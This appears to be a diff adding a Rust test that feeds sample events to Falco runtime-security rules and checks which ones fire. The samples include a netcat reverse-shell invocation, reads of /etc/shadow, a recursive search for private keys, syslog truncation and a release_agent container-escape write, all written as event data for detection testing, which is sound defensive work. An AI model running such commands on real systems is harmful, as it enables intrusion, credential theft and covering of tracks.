@@ -77,3 +77,64 @@ fn every_field_name_of_falco_is_known() {
         .collect();
     assert!(unknown.is_empty(), "unknown field names: {unknown:?}");
 }
+
+/// Loading is not detecting: rules as their authors wrote them fire on what they are for.
+const SAMPLES: &str = "
+- rule: Terminal shell in container
+  expect: fires
+  fields: {evt.type: execve, proc.name: bash, proc.pname: runc, proc.tty: 34816}
+- rule: Terminal shell in container
+  expect: quiet
+  fields: {evt.type: execve, proc.name: bash, proc.pname: runc}
+- rule: Read sensitive file untrusted
+  expect: fires
+  fields: {evt.type: openat, fd.name: /etc/shadow, proc.name: cat, container.image.repository: web}
+- rule: Read sensitive file untrusted
+  expect: quiet
+  fields: {evt.type: openat, fd.name: /etc/shadow, proc.name: sshd, container.image.repository: web}
+- rule: Run shell untrusted
+  expect: fires
+  fields: {evt.type: execve, proc.name: sh, proc.args: -c id, proc.aname: [php, nginx]}
+- rule: Run shell untrusted
+  expect: quiet
+  fields: {evt.type: execve, proc.name: sh, proc.args: -c whoami, proc.aname: [php, nginx]}
+- rule: Netcat Remote Code Execution in Container
+  expect: fires
+  fields: {evt.type: execve, proc.name: nc, proc.args: 10.0.0.1 4444 -e /bin/sh}
+- rule: Search Private Keys or Passwords
+  expect: fires
+  fields: {evt.type: execve, proc.name: grep, proc.args: '-r \"begin rsa private\" /'}
+- rule: Clear Log Activities
+  expect: fires
+  fields: {evt.type: openat, fd.name: /var/log/syslog, evt.arg.flags: O_WRONLY|O_TRUNC, proc.name: sh, container.image.repository: web}
+- rule: Detect release_agent File Container Escapes
+  expect: fires
+  fields: {evt.type: openat, fd.name: /tmp/x/release_agent, evt.arg.flags: O_WRONLY, thread.cap_effective: CAP_SYS_ADMIN}
+- rule: Execution from /dev/shm
+  expect: fires
+  fields: {evt.type: execve, proc.name: x, proc.exe: ./x, proc.cwd: /dev/shm/, container.image.repository: web}
+- rule: Drop and execute new binary in container
+  expect: fires
+  fields: {evt.type: execve, proc.name: x, proc.is_exe_upper_layer: true, container.image.repository: web}
+- rule: Disallowed SSH Connection Non Standard Port
+  expect: fires
+  fields: {evt.type: connect, evt.rawres: -115, fd.sip: 203.0.113.1, fd.sport: 443, proc.name: ssh, proc.exe: /usr/bin/ssh}
+- rule: Disallowed SSH Connection Non Standard Port
+  expect: quiet
+  fields: {evt.type: connect, fd.sip: 10.0.0.1, fd.sport: 443, proc.name: ssh, proc.exe: /usr/bin/ssh}
+- rule: Fileless execution via memfd_create
+  expect: fires
+  fields: {evt.type: execve, proc.name: x, proc.pname: sh, proc.exepath: 'memfd:x', proc.is_exe_from_memfd: true}
+";
+
+#[test]
+fn falcos_rules_fire_on_what_they_are_for() {
+    let file = detect::RuleFile {
+        path: "samples".to_owned(),
+        text: SAMPLES.to_owned(),
+    };
+    let (samples, failures) = detect::read_samples(&file);
+    assert_eq!(failures, []);
+    let report = detect::run_samples(&falco_rules().set, &samples);
+    assert!(report.failures.is_empty(), "{}", report.to_text());
+}
